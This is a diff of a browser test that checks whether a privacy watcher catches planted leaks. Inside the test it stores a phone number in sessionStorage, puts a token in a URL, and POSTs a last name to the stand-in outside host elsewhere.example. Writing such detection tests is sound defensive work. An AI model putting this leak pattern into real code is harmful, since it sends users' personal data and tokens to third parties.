@@ -3,23 +3,23 @@ import { watchPrivacy } from '../support/privacy.ts';
 import { host } from '../support/service-host.ts';
 import { expect, site, test } from '../support/test.ts';
 
-// A context of its own: what is planted here must not fail the test by its own watch.
-test('the watch of every test sees what is planted', async ({ browser }) => {
+// A separate context, because `test` also checks its own context and would fail on the planted leaks.
+test('the privacy check of every test finds planted leaks', async ({ browser }) => {
   const context = await browser.newContext({ baseURL: site });
   const findLeaks = watchPrivacy(context, { site, host: new URL(host).origin });
   await context.route('**/planted', (route) =>
     route.fulfill({ status: 404, contentType: 'text/html', body: profileMark.last_name.toUpperCase() }),
   );
-  const closed = await context.newPage();
-  await closed.goto('/planted');
-  await closed.evaluate(({ phone }) => sessionStorage.setItem('closed', phone), profileMark);
-  await closed.close();
+  const closedPage = await context.newPage();
+  await closedPage.goto('/planted');
+  await closedPage.evaluate(({ phone }) => sessionStorage.setItem('closed', phone), profileMark);
+  await closedPage.close();
   const page = await context.newPage();
   await page.goto('/planted');
   await page.evaluate(async ({ last_name }) => {
     const token = crypto.randomUUID();
     const send = (url: string, init?: RequestInit) => fetch(url, init).catch(() => undefined);
-    // Nobody knows yet that it is a token.
+    // The check learns that this value is a token only from the Authorization header of the next request.
     await send(`/planted?token=${token}`);
     await send('/planted', { headers: { authorization: `Bearer ${token}` } });
     await send('https://elsewhere.example/', { method: 'POST', body: last_name, mode: 'no-cors' });
